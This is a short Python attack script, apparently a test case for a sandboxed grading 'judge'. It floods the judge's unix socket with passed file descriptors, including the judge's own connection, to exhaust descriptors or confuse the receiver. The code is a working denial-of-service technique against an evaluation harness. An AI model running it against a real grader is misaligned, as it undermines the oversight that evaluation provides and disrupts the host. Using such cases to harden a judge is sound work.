"""Open files as a gift to the judge.

A unix socket carries open files as well as bytes. Whoever receives without asking for them may run out of descriptors, or
find its own connection among what it was given. The attack sends the judge hundreds, in loops that hold each other.
"""
# seen: is not a frame
# not against nbgrader: there is no connection of that kind

# %% attack
import array
import os
import socket


def mischief():
    mine = socket.socket(fileno=os.dup(3))
    one, other = socket.socketpair()
    for _ in range(10):
        gift = array.array("i", [3, one.fileno(), other.fileno(), *[0] * 50])
        for door in (one, mine):
            door.sendmsg([b"a gift"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, gift)])
